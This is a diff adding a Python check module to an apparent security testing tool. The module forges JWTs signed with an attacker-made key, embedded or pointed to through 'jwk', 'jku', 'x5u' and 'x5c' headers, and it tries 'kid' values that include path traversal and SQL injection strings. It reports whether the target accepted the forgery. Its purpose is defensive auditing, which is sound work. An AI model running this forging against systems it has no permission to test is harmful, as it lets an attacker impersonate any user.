@@ -1,0 +1,51 @@
+"""Tokens that bring the key along which verifies them."""
+
+from cryptography.hazmat.primitives.asymmetric import ec
+
+from ..attack import Attack
+from ..attacker import Attacker
+from ..forge import encode, header_of, segment, sign_es256
+from ..verdict import Verdict, held, not_applicable, succeeded
+
+
+def _run(attacker: Attacker) -> Verdict:
+    target = attacker.target
+    if target.way.mode != "token":
+        return not_applicable("Session mode signs nothing.")
+    login = target.log_in()
+    header, payload = header_of(login.credential), login.credential.split(".")[1]
+    key = ec.generate_private_key(ec.SECP256R1())
+    elsewhere = f"{target.origin}/evil.json"
+    tricks: tuple[dict[str, object], ...] = (
+        {"jwk": _jwk(key)},
+        {"jku": elsewhere},
+        {"x5u": elsewhere},
+        {"x5c": ["AAAA"]},
+        {},
+    )
+    for trick in tricks:
+        for kid in (header.get("kid"), "../../dev/null", "' or 1=1 --", elsewhere, None):
+            head = segment(header | {"alg": "ES256", "kid": kid} | trick)
+            if target.me(
+                login, f"{head}.{payload}.{sign_es256(key, f'{head}.{payload}')}"
+            ).accepted:
+                return succeeded(f"A token was believed for the {', '.join(trick)} in its header.")
+    return held("No key that a token named or brought along was believed.")
+
+
+def _jwk(key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
+    numbers = key.public_key().public_numbers()
+    x, y = (encode(each.to_bytes(32, "big")) for each in (numbers.x, numbers.y))
+    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}
+
+
+ATTACK = Attack(
+    id="forged-key",
+    title="Tokens that bring their own key",
+    story="An attacker signs a token with a key of their own and puts the key, or its address,"
+    " into the header. A server that looks there verifies the token with it."
+    " The attacker is whoever the token names.",
+    references=("RFC 8725 section 3.10", "CWE-347", "ASVS V9.1.3"),
+    defences=("tokens are verified",),
+    run=_run,
+)
